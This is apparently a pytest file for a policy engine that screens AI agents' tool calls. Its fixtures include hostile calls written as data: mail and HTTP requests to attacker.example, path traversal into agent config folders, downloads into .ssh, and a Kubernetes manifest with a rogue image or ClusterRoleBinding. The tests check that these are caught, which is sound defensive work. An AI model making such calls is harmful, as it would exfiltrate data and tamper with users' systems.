"""What the shipped policies decide, from the call's arguments to the verdict."""

from functools import cache
from pathlib import Path

import pytest

from guard.core.calls import untraced
from guard.core.model import Finding, Identity, Role, ToolCall
from guard.core.policy import Action, Mode, Situation, decide
from guard.core.trajectory import Snapshot, Trajectory, Window
from guard.pipeline.classification import classify
from guard.policy import load_policies

POLICIES = Path(__file__).parents[2] / "policies"
INSIDE, OUTSIDE = "team@example.com", "mallory@attacker.example"


@cache
def shipped(name):
    """Return a shipped policy."""
    return load_policies([POLICIES / f"{name}.yaml"])


def _decide(policy, tool, arguments, before=(), score=0.1):
    call = classify(policy, ToolCall("id", Identity("p", "s"), tool, arguments, "mcp", 0.0))
    trajectory = Trajectory.of(before)
    window = Window(trajectory, attempted=trajectory.executed)
    found = ()
    if score is not None:
        found = (Finding("d", "prefix_score", score, data={"model": "prefix-13"}),)
    return decide(policy, Situation(untraced(call), Snapshot(window, window), found))


def _mail(to, **more):
    return "email_send_email", {"to": to, "subject": "Status", "body": "All is well.", **more}


@pytest.mark.parametrize(
    ("tool", "arguments", "action", "codes"),
    [
        (*_mail(INSIDE), "allow", {"provenance_listed"}),
        (
            "send_email",
            {"recipients": [INSIDE], "subject": "s", "body": "b"},
            "allow",
            {"provenance_listed"},
        ),
        (*_mail(OUTSIDE), "ask", {"provenance_unknown"}),
        (
            "send_email",
            {"recipients": [INSIDE, OUTSIDE], "body": "b"},
            "ask",
            {"provenance_unknown"},
        ),
        (*_mail(INSIDE, cc=OUTSIDE), "ask", {"provenance_unknown"}),
        (*_mail(INSIDE, reply_hook=OUTSIDE), "ask", {"provenance_unknown"}),
        (*_mail(f"{INSIDE}, {OUTSIDE}"), "ask", {"provenance_unknown"}),
        (*_mail("team@sub.example.com"), "ask", {"provenance_unknown"}),
        ("email_send_email", {"subject": "s", "body": "b"}, "block", {"destination_missing"}),
        (*_mail([{"x": {}}]), "block", {"destination_malformed"}),
        ("share_document", {"to": OUTSIDE}, "ask", {"provenance_unknown"}),
        ("share_document", {"to": INSIDE}, "allow", {"provenance_listed"}),
        ("email_draft_email", _mail(OUTSIDE)[1], "allow", {"tool_role"}),
        ("memory_save_fact", {"key": "k", "value": f"mail {OUTSIDE}"}, "allow", {"tool_role"}),
        ("memory_recall_fact", {"key": "k"}, "allow", {"tool_role"}),
        ("rag_query", {"query_text": "rules", "top_k": 10}, "allow", {"tool_role"}),
        (
            "http.request",
            {"method": "GET", "url": "https://example.com/x"},
            "allow",
            {"provenance_listed"},
        ),
        (
            "http.request",
            {"method": "GET", "url": "https://attacker.example/?d=1"},
            "ask",
            {"provenance_unknown"},
        ),
        (
            "http.request",
            {"method": "POST", "url": "https://example.com/x", "body": f"to={OUTSIDE}"},
            "ask",
            {"provenance_unknown"},
        ),
        ("resources/read", {"uri": "file:///a"}, "allow", {"tool_role"}),
        ("run_shell", {"command": "true"}, "ask", {"tool_unmapped"}),
        ("Email_Send_Email", _mail(INSIDE)[1], "ask", {"tool_unmapped"}),
    ],
)
def test_the_default_policy_decides(tool, arguments, action, codes):
    """Action and codes of the deciding rules, for one call in a fresh session; none of its text."""
    verdict = _decide(shipped("default"), tool, arguments)

    assert verdict.action.label == action
    assert {r.code for r in verdict.reasons if r.action is verdict.action} == codes
    assert verdict.errors == ()
    assert not [text for text in (INSIDE, OUTSIDE, "All is well") if text in repr(verdict)]


def test_a_score_matters_for_an_external_send_alone():
    """Mail to colleagues out of memory is honest work; a model that did not run blocks another."""
    inside = _decide(shipped("default"), *_mail(INSIDE), before=[Role.RECALL], score=0.99)
    outside = _decide(shipped("default"), *_mail(OUTSIDE), score=None)
    assert inside.action is Action.ALLOW
    assert (outside.action, len(outside.errors)) == (Action.BLOCK, 1)


@pytest.mark.parametrize(
    ("tool", "arguments", "noticed"),
    [
        ("acme_send_message", {"to": OUTSIDE}, True),
        ("acme_send_message", {"to": INSIDE}, False),
        ("acme_send_message", {"text": "to nobody"}, True),
        ("memory_recall_fact", {"key": "k"}, False),
        ("anything_else", {"x": OUTSIDE}, True),
        ("anything_else", {"x": "nobody"}, False),
    ],
)
def test_observe_watches_and_blocks_nothing(tool, arguments, noticed):
    """Every call passes; sends to the outside are recorded as what would be refused."""
    verdict = _decide(shipped("examples/observe"), tool, arguments, score=None)

    assert verdict.mode is Mode.MONITOR
    assert verdict.enforced is Action.ALLOW
    assert verdict.would_have_blocked is noticed


def test_an_allowed_path_of_a_host_is_open_to_plain_requests(policy_from):
    """The allowlist entry that the policy's comments suggest works, and only for its path."""
    text = (POLICIES / "default.yaml").read_text(encoding="utf-8")
    policy = policy_from(text.replace("allow: []", 'allow: ["https://api.partner.example/v1/"]'))
    host = "api.partner.example:443"
    for path, action in (("v1", Action.ALLOW), ("v2", Action.ASK)):
        arguments = {"method": "POST", "url": f"https://{host}/{path}/items", "host": host}
        assert _decide(policy, "http.request", {**arguments, "body": ""}).action is action


def test_the_office_policy_asks_about_actions_that_nobody_requested():
    """A service beside it is needed to try the rule; so the file is here."""
    from typer.testing import CliRunner

    from guard import cli

    described = Path(__file__).parent / "described"
    done = CliRunner().invoke(cli.app, ["policy", "test", str(described)])

    assert " 0 failed" in done.stdout


SERVICES = sorted((POLICIES / "services").glob("*.yaml"))

PUSHED = {"owner": "lakeside", "repo": "web", "message": "m"}
MANIFEST = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec: {replicas: 3}\n"
# File, rule, tool, what is asked about, and what is not.
RULES = [
    (
        "services/github",
        "github-declared",
        "create_issue",
        {**PUSHED, "message": None, "repository": "evil/app", "title": "t"},
        {**PUSHED, "message": None, "title": "t", "labels": ["bug"]},
    ),
    (
        "services/github",
        "github-hidden-files",
        "push_files",
        {**PUSHED, "branch": "fix", "files": [{"path": "a"}, {"path": "x/../.cursor/rules/a"}]},
        {**PUSHED, "branch": "fix", "files": [{"path": "./src/a.b.py"}]},
    ),
    (
        "services/github",
        "github-default-branch",
        "create_or_update_file",
        {**PUSHED, "path": "a", "content": "c"},
        {**PUSHED, "path": "a", "content": "c", "branch": "notes-2.1"},
    ),
    (
        "services/gitlab",
        "gitlab-default-branch",
        "commit_repository_file",
        {"project_id": "a/b", "file_path": "a", "branch": "refs/heads/trunk"},
        {"project_id": "a/b", "file_path": "a", "branch": "maintenance"},
    ),
    (
        "services/google-calendar",
        "google-calendar-guests",
        "modify_event",
        {"event_id": "e1", "location": "door code 9043"},
        {"event_id": "e1", "start_time": "15:00"},
    ),
    (
        "services/microsoft-calendar",
        "microsoft-calendar-guests",
        "update-calendar-event",
        {"eventId": "e1", "body": {"location": {"displayName": "door code 9043"}}},
        {"eventId": "e1", "body": {"start": {"dateTime": "15:00"}}},
    ),
    (
        "services/google-drive",
        "google-drive-owner",
        "share_drive_file",
        {"file_id": "f", "share_with": "a@b.test", "role": "owner"},
        {"file_id": "f", "share_with": "a@b.test", "role": "reader"},
    ),
    (
        "services/sharepoint",
        "sharepoint-owner",
        "share-drive-item",
        {"driveItemId": "i", "body": {"recipients": [{"email": "a@b.test"}], "roles": ["owner"]}},
        {"driveItemId": "i", "body": {"recipients": [{"email": "a@b.test"}], "roles": ["read"]}},
    ),
    (
        "services/hubspot",
        "hubspot-engagements",
        "hubspot-create-engagement",
        {"type": "EMAIL", "metadata": {"body": "x"}},
        {"type": "NOTE", "metadata": {"body": "x"}},
    ),
    (
        "services/kubernetes",
        "kubernetes-manifest",
        "resources_create_or_update",
        {"resource": MANIFEST.replace("replicas: 3", "containers: [{image: evil/x}]")},
        {"resource": MANIFEST},
    ),
    (
        "services/kubernetes",
        "kubernetes-manifest",
        "resources_create_or_update",
        {"resource": MANIFEST.replace("Deployment", "ClusterRoleBinding")},
        {"resource": MANIFEST},
    ),
    (
        "services/fetch",
        "fetch-declared",
        "fetch",
        {"url": "https://docs.example.org/guide", "headers": {"X-Note": "balance 4711"}},
        {"url": "https://docs.example.org/guide", "max_length": 5000},
    ),
    (
        "servers/filesystem",
        "filesystem-hidden",
        "write_file",
        {"path": "home/.config/nvim/init.lua", "content": "c"},
        {"path": "home/web/.gitignore", "content": "c"},
    ),
    (
        "servers/filesystem",
        "filesystem-hidden",
        "write_file",
        {"path": ".git/.gitignore", "content": "c"},
        {"path": "./docs/a.b.md", "content": "c"},
    ),
    (
        "servers/filesystem",
        "filesystem-started",
        "write_file",
        {"path": "web/node_modules/x/index.js", "content": "c"},
        {"path": "web/src/combine.js", "content": "c"},
    ),
    (
        "servers/gmail-autoauth",
        "gmail-download-folders",
        "download_attachment",
        {"messageId": "m", "attachmentId": "a", "savePath": "home/.ssh"},
        {"messageId": "m", "attachmentId": "a", "savePath": "home/Downloads"},
    ),
    (
        "servers/gmail-autoauth",
        "gmail-download-names",
        "download_attachment",
        {"messageId": "m", "attachmentId": "a", "filename": "../../a.pdf"},
        {"messageId": "m", "attachmentId": "a", "filename": "bill of may.pdf"},
    ),
    (
        "servers/playwright",
        "playwright-files",
        "browser_take_screenshot",
        {"filename": "home/.claude/settings.json"},
        {"filename": "page.png"},
    ),
]


@pytest.mark.parametrize(
    ("file", "rule", "tool", "asked", "honest"),
    RULES,
    ids=[f"{r[1]}-{n}" for n, r in enumerate(RULES)],
)
def test_a_rule_speaks_of_what_it_is_about_alone(file, rule, tool, asked, honest):
    """Of the hostile call, and not of its honest twin."""
    beside = "default.yaml" if file.startswith("services/") else "office.yaml"
    policy = load_policies([POLICIES / beside, POLICIES / f"{file}.yaml"])
    said = [
        {reason.rule for reason in _decide(policy, tool, arguments).reasons}
        for arguments in (asked, honest)
    ]

    assert rule in said[0] - said[1]


@pytest.mark.parametrize("path", SERVICES, ids=lambda path: path.stem)
def test_a_service_loads_and_every_send_says_who_receives(path):
    """A send without a destination would never be asked about."""
    load_policies([POLICIES / "default.yaml", path])
    alone = load_policies([path])

    assert all(m.destinations or m.reading.reply for m in alone.tools if m.role is Role.SEND)
